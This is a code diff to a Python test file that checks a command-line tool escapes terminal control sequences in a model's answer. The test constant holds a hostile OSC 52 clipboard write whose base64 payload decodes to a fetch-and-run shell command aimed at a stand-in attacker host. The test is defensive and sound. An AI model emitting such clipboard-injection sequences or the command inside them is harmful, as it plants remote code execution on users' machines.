@@ -11,6 +11,7 @@ import signal
 import subprocess
 import sys
 import time
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -358,30 +359,16 @@ def test_a_file_name_that_is_not_utf8_is_listed_recorded_and_shown(tmp_path: Pat
 HOSTILE_ANSWER = "Done.\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\nsecond\tline\rX"  # OSC 52: a clipboard write
 
 
-def test_on_a_terminal_the_answers_escape_sequences_are_shown_not_obeyed(tmp_path: Path) -> None:
-    import pty
-
+def test_on_a_terminal_the_answers_escape_sequences_are_shown_not_obeyed(
+        tmp_path: Path, dsh_on_terminal: Callable[..., tuple[int, bytes]]) -> None:
     cfg = config(tmp_path, [final(HOSTILE_ANSWER)])
-    environ = {k: v for k, v in os.environ.items() if not k.startswith("DSH_")}
-    leader, follower = pty.openpty()
-    process = subprocess.Popen([sys.executable, "-m", "dsh_core", "--config", str(cfg), "-p", "go"], cwd=tmp_path,
-                               env=environ, stdout=follower, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
-    os.close(follower)
-    shown = b""
-    while True:
-        try:
-            chunk = os.read(leader, 4096)
-        except OSError:  # EIO: the child closed its end
-            break
-        if not chunk:
-            break
-        shown += chunk
-    os.close(leader)
-    assert process.wait(timeout=60) == 0
+    code, shown = dsh_on_terminal("--config", str(cfg), "-p", "go", cwd=tmp_path, stderr=False)
+    assert code == 0
     # Newlines and tabs are kept (the terminal shows \n as \r\n); everything that drives a terminal is escaped.
     assert shown == (b"Done.\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2J\r\n"
                      b"second\tline\\rX\r\n")
     # Into a pipe the answer goes as the model wrote it: it is data there.
+    environ = {k: v for k, v in os.environ.items() if not k.startswith("DSH_")}
     piped = subprocess.run([sys.executable, "-m", "dsh_core", "--config", str(cfg), "-p", "go"], cwd=tmp_path,
                            env=environ, capture_output=True, timeout=60, check=False)
     assert piped.returncode == 0 and piped.stdout == (HOSTILE_ANSWER + "\n").encode()
